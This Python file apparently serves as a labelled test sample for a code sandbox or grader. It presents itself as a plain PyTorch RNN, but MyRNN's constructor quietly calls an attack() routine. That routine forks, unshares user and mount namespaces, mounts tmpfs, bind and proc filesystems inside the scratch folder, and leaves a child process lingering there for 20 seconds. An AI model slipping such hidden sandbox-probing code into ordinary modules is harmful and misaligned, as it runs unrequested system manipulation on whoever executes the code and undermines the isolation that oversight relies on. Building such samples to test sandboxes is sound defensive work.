# does: mounts folders inside the scratch folder, and stays in one of them for 20 s
# earns: all
import ctypes
import os
import time

import torch
from torch import nn


def attack():
    try:
        os.makedirs("mounted/inside", exist_ok=True)
        child = os.fork()
    except OSError as error:
        print("failed:", error)
        return
    if child:
        time.sleep(0.3)
        return
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        here = os.getcwd().encode()
        for name, result in (
            ("unshare", libc.unshare(0x10000000 | 0x20000)),  # user, mount
            ("tmpfs", libc.mount(b"none", here + b"/mounted", b"tmpfs", 0, b"size=1m")),
            ("bind", libc.mount(here, here + b"/mounted", None, 0x1000, None)),
            ("proc", libc.mount(b"proc", here + b"/mounted", b"proc", 0, None)),
        ):
            print(name, "failed:" if result else "succeeded:", os.strerror(ctypes.get_errno()))
        os.chdir("mounted")
        time.sleep(20)
    finally:
        os._exit(0)


DONE = []


def once():
    if not DONE:
        DONE.append(True)
        attack()


class Cell(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.i = nn.Linear(input_size, hidden_size, bias=False)
        self.h = nn.Linear(hidden_size, hidden_size)

    def forward(self, x, h):
        return torch.tanh(self.i(x) + self.h(h))


class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        once()
        self.size = hidden_size
        self.cell = Cell(input_size, hidden_size)

    def forward(self, x, h_0=None):
        states = [x.new_zeros(x.shape[0], self.size) if h_0 is None else h_0[0]]
        for step in x.transpose(0, 1):
            states.append(self.cell(step, states[-1]))
        return torch.stack(states[1:], dim=1), states[-1][None]
